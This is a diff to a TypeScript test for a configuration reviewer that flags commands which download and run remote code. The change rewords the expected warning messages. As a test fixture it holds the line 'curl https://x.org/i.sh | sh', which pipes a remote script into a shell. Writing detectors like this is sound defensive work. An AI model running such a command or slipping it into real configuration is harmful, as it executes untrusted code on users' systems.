@@ -95,9 +95,9 @@ describe("code from elsewhere", () => {
 
   it("is told of wherever it runs, once, and not again when something else changes", async () => {
     const told = async (before: string, after: string): Promise<readonly string[]> =>
-      (await reviewOf(before, after)).filter((each) => each.includes("from elsewhere"));
+      (await reviewOf(before, after)).filter((each) => each.includes("downloads and runs"));
     const fetching = "curl https://x.org/i.sh | sh";
-    const what = "fetches code from elsewhere and runs it: `curl https://x.org/i.sh | sh`";
+    const what = "downloads and runs code: `curl https://x.org/i.sh | sh`";
     const all = [
       `danger apps.shop: the health check of \`web\` ${what}`,
       `danger apps.shop: the script before each start of \`web\` ${what}`,
